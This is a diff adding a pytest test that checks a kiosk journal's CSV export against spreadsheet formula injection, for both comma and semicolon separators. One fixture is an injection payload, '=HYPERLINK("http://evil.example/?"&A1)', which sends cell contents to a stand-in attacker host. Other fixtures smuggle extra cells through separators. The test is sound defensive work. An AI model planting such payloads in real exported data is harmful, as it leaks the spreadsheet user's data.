@@ -173,6 +173,32 @@ def test_events_since_and_csv_export(journal, clock):
     assert rows[0]["passed"] == ""
 
 
+def _spreadsheet_cells(line: str, separator: str) -> list[str]:
+    """A CSV line as a spreadsheet splits it: at `separator` outside double quotes, quotes then removed."""
+    cells, cell, quoted = [], "", False
+    for c in line:
+        if c == '"':
+            quoted = not quoted
+        elif c == separator and not quoted:
+            cells.append(cell)
+            cell = ""
+        else:
+            cell += c
+    return [*cells, cell]
+
+
+@pytest.mark.parametrize("separator", [",", ";"])
+def test_no_exported_cell_starts_a_formula_whatever_the_spreadsheets_separator(journal, clock, separator):
+    for raw in ('x;=HYPERLINK("http://evil.example/?"&A1)', "y,-2+3", "=1+1", "z;@SUM(1)", "plain"):
+        add(journal, clock(), raw=raw)
+    out = io.StringIO()
+    write_csv(journal.events(), out)
+    lines = out.getvalue().splitlines()
+    cells = [cell for line in lines[1:] for cell in _spreadsheet_cells(line, separator)]
+    assert cells and not [c for c in cells if c.startswith(("=", "+", "-", "@", "\t", "\r"))]
+    assert lines[0].startswith("id,at,")  # the header as `kiosk replay` knows it
+
+
 def test_unwritable_journal_is_a_journal_error(tmp_path):
     (tmp_path / "dir.sqlite").mkdir()
     with pytest.raises(JournalError):
